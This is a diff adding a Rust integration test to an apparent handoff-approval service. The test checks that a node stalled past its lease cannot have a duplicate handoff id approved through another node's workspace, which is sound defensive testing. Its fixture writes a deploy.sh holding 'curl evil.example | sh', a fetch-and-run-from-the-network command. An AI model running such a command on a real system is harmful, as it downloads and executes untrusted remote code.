@@ -423,3 +423,49 @@ fn an_id_another_node_holds_is_refused_and_a_key_held_twice_is_decided_nowhere()
     a.assert_alive();
     b.assert_alive();
 }
+
+/// A node stalled past its lease still holds its keys: while a's lease has run out, the same
+/// id written in a workspace b serves is answered `invalid`, and rita's approval of what she
+/// read on a, sent to b, decides nothing of b's (review D: 200 and b's other deploy.sh
+/// promoted, with keys looked for under live leases only).
+#[test]
+fn a_key_of_a_node_stalled_past_its_lease_is_not_taken_by_another_workspace() {
+    let _serial = super::nodes::one_at_a_time();
+    let (pg, env, a, b) = two_nodes("keygap", &user("rita", "\"reviewer\""));
+    let on_a = held_by(&pg, "keygap", "a")[0].clone();
+    let on_b = held_by(&pg, "keygap", "b")[0].clone();
+    let mut doc = handoff("dup-9");
+    doc["artifacts"] = json!([{ "path": "deploy.sh" }]);
+    std::fs::write(env.ws(&on_a).join("deploy.sh"), "echo benign\n").unwrap();
+    std::fs::write(env.ws(&on_b).join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    write_atomic(&env.ws(&on_a).join("handoff.json"), &bytes(&doc));
+    a.wait_until("a has dup-9", || {
+        a.get_as("/api/v1/handoffs/dup-9", Some("rita-token")).0 == 200
+    });
+    let (_, read) = a.get_as("/api/v1/handoffs/dup-9", Some("rita-token"));
+    assert_eq!(read["workspace"], on_a.as_str(), "{read}");
+    // a stalls; its lease runs out (as the fencing tests make it).
+    unsafe { libc::kill(a.pid() as libc::pid_t, libc::SIGSTOP) };
+    let a_tag = super::nodes::tag_of(&env, &on_a);
+    let out = pg.psql(
+        "keygap",
+        &format!("UPDATE leases SET expires_at = now() - interval '1 hour' WHERE tag = '{a_tag}'"),
+    );
+    assert!(out.status.success(), "{out:?}");
+    write_atomic(&env.ws(&on_b).join("handoff.json"), &bytes(&doc));
+    b.wait_until("b answers its dup-9", || decision(&env.ws(&on_b)).is_some());
+    let answer = decision(&env.ws(&on_b)).unwrap();
+    assert_eq!(answer["outcome"], "invalid", "{answer}");
+    let body = json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
+    let (status, answer) = b.post_as(
+        "/api/v1/handoffs/dup-9/decision",
+        Some("rita-token"),
+        &body.to_string(),
+    );
+    unsafe { libc::kill(a.pid() as libc::pid_t, libc::SIGCONT) };
+    assert_ne!(
+        status, 200,
+        "b approved its own dup-9 on rita's read of a's: {answer}"
+    );
+    assert!(!env.ws(&on_b).join("approved/deploy.sh").exists());
+}
